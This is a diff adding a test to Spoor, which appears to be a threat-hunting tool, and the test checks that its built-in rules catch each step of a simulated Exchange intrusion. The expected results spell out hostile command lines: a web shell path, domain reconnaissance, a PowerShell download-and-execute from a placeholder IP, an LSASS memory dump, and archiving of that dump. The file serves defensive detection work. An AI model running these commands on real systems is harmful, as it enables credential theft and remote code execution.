@@ -117,3 +117,23 @@ test('on a terminal the progress bar updates and the summary follows; piped or u
   const piped = spoor('hunt', EVIDENCE, '--format', 'jsonl', '--rules', RULES);
   assert.doesNotMatch(piped.stderr, /hunting \[/);
 });
+
+test('without --rules, the hunt uses Spoor\'s own rules and finds each planted step of the sample intrusion', () => {
+  const dir = join(tmp, 'samples');
+  const made = spawnSync(process.execPath, [join(SPOOR, '../../dist/scripts/make-samples.js'), dir], { encoding: 'utf8' });
+  assert.equal(made.status, 0, made.stderr);
+  const home = mkdtempSync(join(tmpdir(), 'spoor-home-empty-'));
+  const r = spawnSync(process.execPath, [SPOOR, 'hunt', dir, '--format', 'jsonl'], { encoding: 'utf8', env: { ...process.env, SPOOR_HOME: home } });
+  assert.equal(r.status, 0, r.stderr);
+  assert.match(r.stderr, /rules: Spoor's own rules/);
+  const found = jsonl(r.stdout).map((d) => `${d.rule.title} | ${d.event.Event.EventData.CommandLine ?? d.event.Event.EventData.TargetFilename}`);
+  // The planted steps (src/evidence/evtx/sample-events.ts): web shell, three commands run by it, LSASS dump, staging.
+  assert.deepEqual(found, [
+    'ASPX File Written Into An Exchange Web Folder By The IIS Worker | C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\shell.aspx',
+    'Command Shell Started By The IIS Worker Process | cmd /c whoami /all',
+    'Command Shell Started By The IIS Worker Process | cmd /c net group "Domain Admins" /domain',
+    'Command Shell Started By The IIS Worker Process | powershell -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.77/a.ps1\')"',
+    'LSASS Memory Dumped With ProcDump | C:\\ProgramData\\procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\lsass.dmp',
+    'Archive Created In ProgramData With 7-Zip | C:\\ProgramData\\7za.exe a C:\\ProgramData\\out.7z C:\\ProgramData\\lsass.dmp',
+  ]);
+});
